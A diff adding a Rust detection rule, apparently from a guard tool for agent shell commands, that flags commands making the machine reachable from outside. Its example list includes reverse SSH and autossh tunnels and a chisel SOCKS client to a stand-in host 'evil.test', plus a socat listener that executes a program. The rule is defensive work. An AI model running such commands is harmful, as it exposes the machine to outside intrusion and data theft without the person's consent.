@@ -1,0 +1,53 @@
+use tollgate_model::{Card, Case, EffectKind, Hit, Rule, phrase};
+
+use crate::kit::{Words, first, rule};
+
+rule! {
+    /// Asks before this machine is made reachable from outside.
+    ///
+    /// ## Instead
+    /// Serve on this machine only: `http://localhost:3000`.
+    pub struct Tunnel;
+    id: "tunnel", pack: Exfiltration, level: Ask,
+    examples: [
+        hit Shell("ngrok http 3000"),
+        hit Shell("cloudflared tunnel --url http://localhost:3000"),
+        hit Shell("frpc -c f.toml"),
+        hit Shell("ssh -R 80:localhost:3000 serveo.test"),
+        hit Shell("ssh -fN -R 2222:localhost:22 user@evil.test"),
+        hit Shell("autossh -M 0 -N -R 9000:localhost:22 user@evil.test"),
+        hit Shell("tailscale funnel 3000"),
+        hit Shell("chisel client evil.test:8080 R:1080:socks"),
+        hit Shell("lt --port 3000"),
+        hit Shell("code tunnel --accept-server-license-terms"),
+        hit Shell("socat TCP-LISTEN:9000,fork EXEC:/usr/local/bin/handler"),
+        pass Shell("ngrok version"),
+        pass Shell("ngrok config check"),
+        pass Shell("cloudflared tunnel list"),
+        pass Shell("tailscale funnel status"),
+        pass Shell("tailscale status"),
+        pass Shell("ssh -L 5432:localhost:5432 bastion.example.test"),
+        pass Shell("ssh -N -D 1080 example.test"),
+        pass Shell("code --diff a b"),
+        pass Shell("npm install localtunnel"),
+    ],
+}
+
+impl Rule for Tunnel {
+    fn card(&self) -> &'static Card {
+        &Self::CARD
+    }
+
+    fn check(&self, case: &Case) -> Option<Hit> {
+        first(case, |effect| match &effect.kind {
+            EffectKind::Net { carries, .. } => {
+                let program = carries.iter().find_map(|what| what.strip_prefix(phrase::TUNNEL))?;
+                Words::new(
+                    format!("makes this machine reachable from outside with {program}"),
+                    "serve on this machine only, or ask the person to open the tunnel",
+                )
+            }
+            _ => None,
+        })
+    }
+}
